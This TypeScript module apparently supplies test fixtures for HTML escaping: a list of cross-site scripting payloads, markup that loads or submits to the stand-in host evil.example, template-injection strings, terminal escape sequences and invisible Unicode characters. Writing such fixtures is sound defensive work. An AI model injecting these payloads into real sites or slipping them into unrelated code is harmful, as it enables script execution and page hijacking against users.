/** Texts that would run a script, load something or break a page if one of them were taken for HTML. */
import { injections } from '../hostile-texts.js';

const classics: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '"><img src=x onerror=alert(4)>',
  "'><svg onload=alert(5)>",
  '" autofocus onfocus=alert(6) x="',
  "' onmouseover=alert(7) y='",
  '<svg><script>alert(8)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe>',
  '<a href="javascript:alert(10)">here</a>',
  'javascript:alert(11)',
  '</textarea></title></style></pre></details><script>alert(12)</script>',
  '<!--><script>alert(13)</script>-->',
  ']]><script>alert(14)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
  '&lt;script&gt;alert(16)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(17)&#62;',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/style.css">',
  '<form action="http://evil.example/"><button>Show</button></form>',
  '<style>@import "http://evil.example/x.css"; body { display: none }</style>',
  '<object data="http://evil.example/"></object><embed src="http://evil.example/">',
  '<video><source onerror=alert(24)></video>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a page's template could trip over
  '${alert(25)} {{constructor.constructor("alert(25)")()}} `+alert(25)+`',
  '<ScRiPt>alert(26)</sCrIpT>',
  '<scr\u0000ipt>alert(27)</scr\u0000ipt>',
  '\u202E<script>alert(28)</script>\u2066',
  '\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007\u001b[2J',
  '![picture](http://evil.example/x.png) [link](javascript:alert(30))',
  '<div style="position:fixed;inset:0;background:url(http://evil.example/x.png)">',
  '\ufeff\u200b<p id="content">a\u0085b\u2028c</p>',
];

/** All of them. */
export const hostilePageTexts: readonly string[] = [...classics, ...injections.map(({ text }) => text)];
